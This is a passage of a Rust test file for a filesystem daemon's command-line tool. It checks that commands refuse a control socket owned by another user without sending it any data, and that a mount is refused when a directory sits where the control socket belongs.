    let root = m.root().display().to_string();
    let theirs = m.scratch.dir.join("theirs");
    fs::create_dir(&theirs).unwrap();
    std::os::unix::fs::chown(&theirs, Some(NOBODY), Some(NOBODY)).unwrap();
    // Bound and listening as another user: this thread alone changes its
    // uid (the raw syscall, not libc's, which would change every thread).
    let at = theirs.join("sock");
    let listener = std::thread::spawn(move || {
        let set =
            |u: u32, saved: u32| unsafe { libc::syscall(libc::SYS_setresuid, u, u, saved) == 0 };
        assert!(set(NOBODY, 0), "setresuid");
        let l = std::os::unix::net::UnixListener::bind(&at);
        assert!(set(0, 0), "setresuid back");
        l.unwrap()
    })
    .join()
    .unwrap();
    fs::rename(theirs.join("sock"), m.store().join("control")).unwrap();

    let limit = Duration::from_secs(20);
    let (out, _) = common::within(&["status", "--root", &root], limit).expect("status waits on it");
    assert!(out.status.success(), "{}", describe(&out));
    let line = transport_line(&out);
    assert!(
        line.contains("unknown (") && line.contains("uid 65534"),
        "{line}"
    );
    let forget = ["forget", "--root", &root, "--keep-last", "1"];
    let (out, _) = common::within(&forget, limit).expect("forget waits on it");
    assert_refused(&out, 6, &["uid 65534"]);
    // Each connected, and dropped the connection without a byte.
    for _ in 0..2 {
        let mut c = accept_within(&listener);
        let mut got = Vec::new();
        std::io::Read::read_to_end(&mut c, &mut got).unwrap();
        assert!(got.is_empty(), "sent {got:?}");
    }
}

/// A directory where the control socket goes would leave the daemon with
/// no control channel for good (`forget` impossible, however often it is
/// remounted): the mount is refused and says what to remove.
#[test]
fn a_directory_at_control_is_refused() {
    let mut m = Mount::new("ctl-dir");
    fs::write(m.path("a.md"), "a").unwrap();
    m.umount();
    let _detach = Detach(vec![m.root()]);
    let control = m.store().join("control");
    let _ = fs::remove_file(&control);
    fs::create_dir(&control).unwrap();
    fs::write(control.join("held"), "x").unwrap();
    let before = snapshot(&m.scratch.dir);
    let out = skillfs(&["mount", m.root().to_str().unwrap()]);
    assert_refused(&out, 4, &["control", "is a directory", "remove it"]);
    assert_eq!(snapshot(&m.scratch.dir), before, "something changed");
    fs::remove_dir_all(&control).unwrap();
    m.remount();
    assert!(
        fs::symlink_metadata(&control)
            .unwrap()
            .file_type()
            .is_socket()
    );
}
